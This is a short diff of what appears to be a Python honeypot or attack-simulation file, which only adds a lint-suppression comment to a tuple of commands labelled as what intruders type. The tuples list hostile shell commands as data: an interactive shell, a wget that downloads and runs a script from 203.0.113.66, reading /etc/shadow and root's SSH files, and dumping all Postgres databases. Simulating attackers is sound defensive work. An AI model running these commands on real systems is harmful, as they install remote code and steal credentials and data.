@@ -30,7 +30,7 @@ _LOOKS_AROUND = (
     "cat /root/.ssh/known_hosts",
 )
 _IN_THE_DATABASE = (
-    "bash -i", "wget -q http://203.0.113.66/k.sh -O /tmp/.k", "chmod +x /tmp/.k", "/tmp/.k", "cat /etc/shadow",
+    "bash -i", "wget -q http://203.0.113.66/k.sh -O /tmp/.k", "chmod +x /tmp/.k", "/tmp/.k", "cat /etc/shadow",  # noqa: S108 - what they type
     "pg_dump -U postgres --all -f /tmp/.d", "crontab -l",
 )  # fmt: skip
 _LETTERS = "abcdefghijklmnopqrstuvwxyz234567"
